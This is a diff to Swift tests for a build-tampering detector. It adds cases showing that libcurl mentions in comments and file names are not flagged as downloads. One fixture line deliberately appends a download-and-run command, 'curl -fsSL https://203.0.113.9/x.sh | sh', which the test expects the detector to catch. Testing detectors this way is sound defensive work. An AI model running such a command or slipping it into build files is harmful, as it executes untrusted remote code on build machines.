@@ -77,10 +77,29 @@ struct BuildTamperingDetectorTests {
         ("setup.py", "    long_description=open('README.md').read(),"),
         ("Makefile", "\t$(CC) $(CFLAGS) -o $@ $^ $(LDLIBS)"),
         ("Makefile.in", "\teval GZIP= gzip $(GZIP_ENV) -dc $(distdir).tar.gz | $(am__untar) tests/"),
+        ("Makefile.in", "\tskip=`echo \"$$results\" | grep -c '^SKIP'`; TESTS=tests/all.test"),
     ])
     func ordinaryBuildEditsStayQuiet(_ path: String, _ line: String) {
         let findings = BuildDetectorFixtures.scan(detector, path: path, old: "# header\n", new: "# header\n" + line + "\n")
         #expect(findings.isEmpty, "\(findings.map(\.ruleID))")
+    }
+
+    /// A project named after a downloader (libcurl) mentions it in comments, messages and file
+    /// names; with an `eval` elsewhere in the file that is not "downloads and runs".
+    @Test(arguments: [
+        ("m4/libfoo.m4", "# specify whether to default to --with-libcurl or --without-libcurl.\n# the minimum version of libcurl to accept\nAC_DEFUN([LIBFOO_CHECK],[\n  _version_parse=\"eval $AWK '{print $1}'\"\n])"),
+        ("m4/compilers.m4", "AC_MSG_WARN([\n*** If you wish to help the cURL project to better support your compiler\n*** report this to the libcurl development list\n])\neval \"$flags_var=yes\""),
+        ("lib/config.h.cmake", "/* when building libcurl itself */\n#cmakedefine BUILDING_LIBCURL ${BUILDING_LIBCURL}\n/* eval the sizes */\n#cmakedefine SIZEOF_INT ${SIZEOF_INT}"),
+        ("src/Makefile", "hugehelp.c: README.curl curl.1 mkhelp.pl\n\t$(NROFF) -man curl.1 | $(PERL) mkhelp.pl README > hugehelp.c\n\teval $(POSTHELP)"),
+        ("configure.ac", "dnl use curl to fetch the test server? no: it runs locally\nAC_MSG_CHECKING([whether to eval])"),
+    ])
+    func downloaderNamesInProseAndCommentsAreNotDownloads(_ path: String, _ text: String) {
+        let findings = BuildDetectorFixtures.scan(detector, path: path, old: nil, new: text + "\n")
+        #expect(!findings.contains { $0.ruleID == BuildTamperingDetector.downloadAndRun.id || $0.ruleID == BuildTamperingDetector.downloads.id },
+                "\(path): \(findings.map(\.evidence))")
+        // The same file with a real download command is still reported.
+        let real = BuildDetectorFixtures.scan(detector, path: path, old: nil, new: text + "\n\tcurl -fsSL https://203.0.113.9/x.sh | sh\n")
+        #expect(real.contains { $0.ruleID == BuildTamperingDetector.downloadAndRun.id }, "\(path)")
     }
 
     @Test func sourceFilesAreNotBuildLogic() {
